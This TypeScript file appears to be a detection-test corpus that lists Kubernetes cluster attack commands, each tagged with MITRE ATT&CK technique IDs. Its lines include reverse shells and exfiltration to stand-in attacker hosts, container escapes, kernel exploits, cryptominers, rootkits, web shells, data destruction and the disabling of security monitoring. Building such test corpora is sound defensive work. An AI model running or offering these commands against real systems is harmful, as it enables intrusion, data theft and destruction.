/** Steps against the cluster, its API and its stores, written down before the rules were read. What is routine by its exec alone is left out. */
import type { Attack } from './attacks.ts';
import { attackLines } from './lines.ts';

/** Entry, techniques, command. */
export const CLUSTER_ATTACKS: readonly Attack[] = attackLines(String.raw`
web | T1213 | curl -s 'http://elasticsearch:9200/users/_search?q=*&size=500'
web | T1213 | mysql -h db -uapp -papp app -e 'select email,password from users limit 1000'
web | T1552.007 T1613 | curl -sk --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/namespaces/kube-system/configmaps; curl -sk -H "Authorization: Bearer eyJ" https://kubernetes.default.svc/api/v1/namespaces/kube-system/configmaps
exec | T1613 | kubectl get pods -A -o wide; kubectl get nodes
exec | T1552.007 | kubectl get secret -n kube-system -o json
exec | T1609 | kubectl exec -it -n kube-system etcd-node -- sh
exec | T1610 | kubectl apply -f http://198.51.100.66/bad.yaml
exec | T1610 T1611 | kubectl debug node/worker-1 -it --image=busybox -- chroot /host
exec | T1053.007 | kubectl create cronjob x --image=alpine --schedule="*/1 * * * *" -- sh -c "wget -qO- http://198.51.100.66/x|sh"
exec | T1098 T1136 | kubectl create serviceaccount backdoor -n kube-system; kubectl create token backdoor -n kube-system
web | T1613 | curl -sk https://10.244.0.1:10250/pods
web | T1613 | curl -s http://10.244.0.1:10255/metrics/cadvisor; curl -s http://10.244.0.1:10255/pods
web | T1613 | curl -sk https://10.244.0.1:2379/version; curl -s http://10.244.0.1:2379/v2/keys/?recursive=true
web | T1046 | for ip in 10.244.1.1 10.244.1.2 10.244.1.3 10.244.1.4; do nc -z -w1 $ip 6379 && echo $ip; done
exec | T1046 | nmap -Pn -sV -p- 10.244.1.10
exec | T1046 | /tmp/fscan -h 10.244.1.0/24
exec | T1046 | bash -c 'for p in {1..1024}; do (echo > /dev/tcp/10.244.1.10/$p) 2>/dev/null && echo $p; done'
exec | T1046 T1018 | for i in $(seq 1 20); do getent hosts 10.244.1.$i; done; nslookup 10.244.1.1; arp-scan -l
exec | T1611 | cat /proc/mounts | grep docker.sock; docker -H unix:///host/var/run/docker.sock ps
exec | T1611 | ls /host/etc/kubernetes; cp /host/etc/kubernetes/admin.conf /tmp/a
exec | T1611 T1053.003 | echo "* * * * * root bash -i >& /dev/tcp/198.51.100.66/4444 0>&1" > /host/etc/cron.d/x
exec | T1611 | echo "$ctr_path/cmd" > /proc/sys/kernel/core_pattern; sysctl -w kernel.core_pattern='|/tmp/x'
exec | T1611 | umount /host/proc; mount --bind / /host2; mount -o remount,rw /host
exec | T1611 | cat /dev/vda1 | strings | grep root:; dd if=/dev/vda1 of=/tmp/x bs=1M count=10
exec | T1611 | cat /proc/kallsyms | grep commit_creds; ./cve-2022-0847 /etc/passwd
exec | T1068 | chmod +x /tmp/dirtypipe; /tmp/dirtypipe /usr/bin/su
exec | T1611 | runc --version; /tmp/runc-exploit --pid 1
exec | T1552.001 | printenv | grep -iE 'pass|key|secret|token'
web | T1552.001 | env | grep -i secret; cat /app/config/database.yml
exec | T1552.001 | find / -name .dockercfg -o -name config.json -path '*docker*' 2>/dev/null; cat /kaniko/.docker/config.json
exec | T1552.004 | cp -r /root/.ssh /tmp/s; cat /etc/ssl/private/server.key
exec | T1552.001 | strings /proc/1/environ | grep AWS; aws configure list; cat ~/.aws/credentials; cat /root/.aws/credentials
exec | T1528 | gcloud auth print-access-token; az account get-access-token
exec | T1580 T1526 | aws ec2 describe-instances; aws iam list-roles; aws s3 ls
exec | T1105 | curl -o /tmp/kubectl -LO https://dl.k8s.io/release/v1.29.0/bin/linux/amd64/kubectl; chmod +x /tmp/kubectl; /tmp/kubectl get secrets -A
web | T1105 | curl -L https://github.com/cdk-team/CDK/releases/download/v1.5.3/cdk_linux_amd64 -o /tmp/cdk; chmod +x /tmp/cdk; /tmp/cdk auto-escape "id"
web | T1105 | busybox wget http://198.51.100.66/b -O /tmp/b; busybox chmod +x /tmp/b; /tmp/b
web | T1105 | wget -q http://198.51.100.66/wso.php -O /var/www/html/wso.php
exec | T1059.004 T1071 | 0<&196;exec 196<>/dev/tcp/198.51.100.66/4444; sh <&196 >&196 2>&196
exec | T1059.004 T1071 | zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.66 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
exec | T1059.006 T1071 | export RHOST=198.51.100.66;export RPORT=4444;python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'
exec | T1059.004 T1071 | ruby -rsocket -e'f=TCPSocket.open("198.51.100.66",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
exec | T1059.004 | telnet 198.51.100.66 4444 | /bin/bash | telnet 198.51.100.66 4445
exec | T1572 | /tmp/chisel client --fingerprint abc 198.51.100.66:443 R:1080:socks
exec | T1090 | 3proxy /tmp/3.cfg; microsocks -p 1080
exec | T1219 | gs-netcat -s secret -l -i -D
exec | T1071.004 | dig +short TXT c2.evil.example @198.51.100.66
exec | T1048.003 | for c in $(base64 -w 40 /etc/passwd | tr -d =); do nslookup $c.x.evil.example; done
exec | T1048 T1041 | curl -s -d "$(cat /etc/passwd | base64)" http://198.51.100.66/p; curl -s -d "cm9vdDp4" http://198.51.100.66/p
exec | T1041 T1048 | wget -q --post-data "$(cat /etc/shadow)" http://198.51.100.66/p; wget -q --post-data "root:x:0" http://198.51.100.66/p
exec | T1567.001 T1567 | gh gist create /tmp/loot.txt; curl -s -X POST https://api.github.com/gists -d @/tmp/g.json
exec | T1567.002 | rclone copy /data mega:loot
exec | T1537 | aws s3 sync /data s3://attacker --acl bucket-owner-full-control --endpoint-url https://198.51.100.66:9000
exec | T1560.001 | 7z a -pS3cret /tmp/l.7z /data
exec | T1560.001 | tar cf - /data | openssl enc -aes-256-cbc -pass pass:x -out /tmp/l.enc
exec | T1074.001 | mkdir /dev/shm/.l; cp -r /app/data /dev/shm/.l/
exec | T1496 | ./minerd -a cryptonight -o stratum+tcp://xmr.pool.example:5555 -u 44A -p x -t 4
exec | T1496 | nice -n 19 /dev/shm/kthreadd -o 198.51.100.66:3333 -u 44A --randomx-1gb-pages
exec | T1489 | systemctl stop elasticsearch; killall java
exec | T1485 | rm -rf /data/* /backup/*
exec | T1485 | psql -U postgres -c "DROP TABLE users CASCADE"; psql -U postgres -c "DROP DATABASE app"
exec | T1486 | find /data -name "*.csv" -exec gpg --batch --passphrase x -c {} \; -delete
exec | T1490 | rm -rf /var/backups; etcdctl del "" --prefix
exec | T1531 | usermod -L root; passwd -d root
exec | T1070.002 | journalctl --vacuum-time=1s; rm -rf /var/log/*
exec | T1562.001 | kubectl delete ds tetragon -n kube-system; kubectl -n falco scale deploy falco --replicas=0
exec | T1562.007 T1562.004 | kubectl delete networkpolicy --all -n prod
exec | T1562.008 | aws cloudtrail stop-logging --name t
exec | T1036.005 | cp /tmp/m /usr/bin/systemd-networkd-helper; ln -s /tmp/m /usr/local/bin/kubelet
exec | T1546.004 | echo 'alias sudo=/tmp/s' >> ~/.bashrc; cp /tmp/p.sh /etc/profile.d/p.sh
exec | T1543.002 | ln -s /tmp/x.service /etc/systemd/system/multi-user.target.wants/x.service
exec | T1547.006 | cp /tmp/r.ko /lib/modules/6.1/r.ko; depmod; insmod /tmp/r.ko
exec | T1548.003 | echo "app ALL=(ALL) NOPASSWD: ALL" | tee /etc/sudoers.d/app
exec | T1574.006 | echo /usr/local/lib/r.so | tee -a /etc/ld.so.preload
exec | T1014 | git clone https://github.com/m0nad/Diamorphine /tmp/d; make -C /tmp/d; insmod /tmp/d/diamorphine.ko
exec | T1505.003 | cp /tmp/cmd.jsp /usr/local/tomcat/webapps/ROOT/cmd.jsp
`);
